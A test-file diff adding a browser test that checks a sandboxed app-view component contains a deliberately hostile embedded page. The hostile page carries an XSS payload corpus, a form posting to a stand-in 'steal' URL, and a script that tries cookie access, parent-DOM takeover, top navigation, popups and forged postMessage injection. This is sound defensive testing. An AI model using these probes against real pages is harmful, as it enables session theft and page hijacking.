@@ -1,0 +1,96 @@
+import type { Frame, Page, Request } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { XSS_PAYLOADS } from '../../packages/elements/src/airlock-tool-card/xss-corpus.js';
+import { BrowserHarness } from '../../packages/elements/src/testing/browser.js';
+import { startSandboxProxy } from '../../apps/console/src/sandbox-proxy.js';
+import type { RunningSandboxProxy } from '../../apps/console/src/sandbox-proxy.js';
+
+/**
+ * A view written to do harm: the project's XSS corpus as its markup, and a script that probes everything outside its
+ * frame (the page's DOM, cookie and storage, top navigation, popups, the network, forged sandbox messages), keeping
+ * what each probe got in `window.__probes` for the test to read.
+ */
+const hostile = (hostOrigin: string): string => `<!doctype html><html><head><title>hostile</title></head><body>
+${XSS_PAYLOADS.join('\n')}
+<form id="escape" action="https://example.invalid/steal" method="post" target="_top"><input name="x" value="1"></form>
+<a id="top-link" href="https://example.invalid/" target="_top">top</a>
+<script>
+window.__probes = {};
+const probe = (name, run) => {
+  try { window.__probes[name] = String(run()); } catch (error) { window.__probes[name] = 'threw ' + error.name; }
+};
+probe('parentDom', () => parent.document.body.innerHTML);
+probe('topDom', () => top.document.body.innerHTML = 'owned');
+probe('topGlobal', () => (top.__xss = 1000));
+probe('cookie', () => document.cookie);
+probe('storage', () => localStorage.setItem('x', '1'));
+probe('topNavigate', () => (top.location.href = 'https://example.invalid/'));
+probe('popup', () => window.open('https://example.invalid/popup'));
+probe('form', () => document.getElementById('escape').submit());
+probe('link', () => document.getElementById('top-link').click());
+probe('forgedReady', () => parent.postMessage({ jsonrpc: '2.0', method: 'ui/notifications/sandbox-resource-ready',
+  params: { html: '<script>parent.__xss++<\\/script>' } }, '*'));
+fetch('${hostOrigin}/airlock-elements.js').then(() => (window.__probes.fetch = 'reached'),
+  () => (window.__probes.fetch = 'blocked'));
+</script>
+</body></html>`;
+
+let harness: BrowserHarness;
+let proxy: RunningSandboxProxy;
+let page: Page;
+const requests: string[] = [];
+
+beforeAll(async () => {
+  harness = new BrowserHarness();
+  await harness.start();
+  proxy = await startSandboxProxy('127.0.0.1', 0);
+  page = await harness.open(`<main id="host-marker" data-untouched="yes">host page</main>
+    <airlock-app-view id="view"></airlock-app-view>`);
+  page.on('request', (request: Request) => requests.push(request.url()));
+}, 60_000);
+
+afterAll(async () => {
+  await harness?.stop();
+  await proxy?.close();
+});
+
+describe('a hostile view', () => {
+  it('changes nothing outside its frame', async () => {
+    const origin = new URL(page.url()).origin;
+    await page.evaluate(
+      ([proxyUrl, html]) => {
+        (window as unknown as { __xss: number }).__xss = 0;
+        const view = document.getElementById('view') as HTMLElement & Record<string, unknown>;
+        view['proxyUrl'] = proxyUrl;
+        view['view'] = { serverId: 'evil', tool: 'evil__tool', uri: 'ui://evil/view', html };
+      },
+      [`http://127.0.0.1:${proxy.port}/sandbox`, hostile(origin)] as const,
+    );
+    const outer = await page.locator('airlock-app-view iframe').elementHandle();
+    const proxyFrame = (await outer.contentFrame())!;
+    await expect.poll(() => proxyFrame.childFrames().length, { timeout: 15_000 }).toBe(1);
+    const view: Frame = proxyFrame.childFrames()[0]!;
+    await expect
+      .poll(() => view.evaluate(() => (window as unknown as { __probes?: { fetch?: string } }).__probes?.fetch))
+      .toBe('blocked');
+    const probes = await view.evaluate(() => (window as unknown as { __probes: Record<string, string> }).__probes);
+    expect(probes).toMatchObject({
+      parentDom: 'threw SecurityError',
+      topDom: 'threw SecurityError',
+      topGlobal: 'threw SecurityError',
+      cookie: 'threw SecurityError',
+      storage: 'threw SecurityError',
+      topNavigate: 'threw SecurityError',
+      popup: 'null',
+    });
+    // Nothing outside the frame moved: the page, its DOM and globals, its tabs; the proxy took no forged view.
+    expect(new URL(page.url()).origin).toBe(origin);
+    expect(await page.locator('#host-marker').getAttribute('data-untouched')).toBe('yes');
+    expect(await page.evaluate(() => (window as unknown as { __xss: number }).__xss)).toBe(0);
+    expect(page.context().pages()).toHaveLength(1);
+    expect(proxyFrame.childFrames()).toHaveLength(1);
+    expect(await proxyFrame.evaluate(() => (window as unknown as { __xss?: number }).__xss)).toBeUndefined();
+    // Only the proxy page was fetched on the view's behalf: no popup, form, link or fetch left the frame.
+    expect(requests.filter((url) => !url.startsWith(`http://127.0.0.1:${proxy.port}/`))).toEqual([]);
+  });
+});
